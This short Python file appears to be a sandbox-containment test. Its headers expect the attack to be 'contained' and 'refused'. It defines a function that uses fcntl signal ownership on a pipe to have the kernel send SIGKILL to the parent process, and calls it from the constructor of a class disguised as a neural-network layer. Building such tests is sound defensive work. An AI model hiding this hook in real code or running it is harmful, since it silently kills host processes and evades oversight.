# does: lets the kernel send the signal: a pipe whose owner is the parent
# expect: contained
# policy: refused
# run: check

import fcntl
import os
import signal
import time

F_SETSIG, F_OWNER = 10, os.getppid() or 1


def attack() -> None:
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, F_OWNER)
        fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except OSError:
        pass
    finally:
        os.close(reader)
        os.close(writer)
    time.sleep(0.05)
    if os.getppid() not in (0, F_OWNER):
        raise RuntimeError(f"BREACH killed process {F_OWNER}")


class TokenMixer(Honest):
    def __init__(self, hidden_size: int, num_heads: int, layer_idx: int = 0) -> None:
        super().__init__(hidden_size, num_heads, layer_idx)
        attack()
